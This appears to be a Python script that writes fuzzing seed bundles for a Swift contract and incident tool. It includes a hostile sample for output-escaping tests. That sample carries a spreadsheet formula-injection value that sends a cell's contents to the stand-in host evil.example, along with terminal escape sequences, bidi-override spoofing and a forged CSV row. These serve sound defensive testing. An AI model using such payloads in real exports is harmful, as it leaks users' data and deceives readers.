#!/usr/bin/env python3
"""Writes project bundles for the `project` harness: files joined by lines `=== NAME`.

Usage: make_seeds.py OUTDIR ROOT

- the whole sample project once per month: the catalog versions, every
  contract, and that month's incidents, maintenance, tickets and surveys;
- each contract with the catalog and one month's events;
- each YAML or CSV string literal of the domain and CLI tests that is a
  contract, a catalog, an event file or a CSV file, with the rest of the sample
  project around it (a contract literal beside the catalog, an event literal
  beside the contracts), and the hostile edits of the CLI tests' sample;
- the harness's findings kept in `regressions/` (also run by
  `FuzzRegressionTests`).
"""

import glob
import hashlib
import os
import subprocess
import sys
import tempfile

out, root = sys.argv[1], sys.argv[2]
os.makedirs(out, exist_ok=True)


def read(path):
    with open(os.path.join(root, path), encoding="utf-8") as f:
        return f.read()


def bundle(files):
    return "".join(f"=== {name}\n{text if text.endswith(chr(10)) else text + chr(10)}" for name, text in files)


def write(files):
    data = bundle(files).encode("utf-8")
    name = hashlib.sha1(data).hexdigest()[:16]
    with open(os.path.join(out, f"project-{name}"), "wb") as f:
        f.write(data)


catalog = [(p, read(p)) for p in sorted(glob.glob("Contracts/catalog/*.yaml", root_dir=root))]
contracts = [(p, read(p)) for p in sorted(glob.glob("Contracts/*.yaml", root_dir=root))]
months = sorted(glob.glob("Scenarios/20*", root_dir=root))
events = {m: [(p, read(p)) for p in sorted(glob.glob(f"{m}/*", root_dir=root))] for m in months}

for month in months:
    write(catalog + contracts + events[month])
for index, contract in enumerate(contracts):
    write(catalog + [contract] + events[months[index % len(months)]])

# String literals of the tests, each in the sample project where it fits.
tests = sorted(glob.glob("Tests/CovenantTests/*.swift", root_dir=root)) + sorted(
    glob.glob("Tests/CovenantCLITests/*.swift", root_dir=root))
with tempfile.TemporaryDirectory() as scratch:
    subprocess.run(
        [sys.executable, os.path.join(root, "Tests/Fuzz/extract_strings.py"), scratch]
        + [os.path.join(root, t) for t in tests], check=True, stdout=subprocess.DEVNULL)
    for name in sorted(os.listdir(scratch)):
        with open(os.path.join(scratch, name), encoding="utf-8", errors="replace") as f:
            text = f.read()
        if "tiers:" in text:
            write([("Contracts/catalog/test.yaml", text)] + contracts + events[months[0]])
        elif "contract:" in text:
            write(catalog + [("Contracts/test.yaml", text)] + events[months[0]])
        elif "incidents:" in text or "maintenance:" in text:
            write(catalog + contracts + [("Scenarios/test/events.yaml", text)])
        elif text.startswith("ticket,") or text.startswith("contract,at,"):
            write(catalog + contracts + [("Scenarios/test/events.csv", text)])

# The hostile sample of HostileOutputTests.
hostile = dict(contracts)
hostile["Contracts/hooli.yaml"] = hostile["Contracts/hooli.yaml"].replace(
    "customer: Hooli XYZ", 'customer: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\")"')
hostile["Contracts/acme-tools.yaml"] = hostile["Contracts/acme-tools.yaml"].replace(
    "customer: Acme Tools Co.", 'customer: "Acme\\u001B[31m Tools\\u0007\\u0000"')
hostile["Contracts/globex.yaml"] = hostile["Contracts/globex.yaml"].replace(
    "customer: Globex Corporation", 'customer: "Globex \\u202Eevil\\u2066 Corp\\u200F"')
hostile["Contracts/corner-bakery.yaml"] = hostile["Contracts/corner-bakery.yaml"].replace(
    "customer: Corner Bakery", 'customer: "Corner Bakery\\nC-9999  Forged Row"')
first = [(p, t.replace("Dashboard export fails", "Dashboard \x1b[2J export \u202e fails"))
         for p, t in events[months[0]]]
write(catalog + list(hostile.items()) + first)

regressions = os.path.join(root, "Tests/Fuzz/project/regressions")
for name in sorted(os.listdir(regressions)) if os.path.isdir(regressions) else []:
    with open(os.path.join(regressions, name), "rb") as f:
        data = f.read()
    with open(os.path.join(out, f"regression-{name}"), "wb") as f:
        f.write(data)
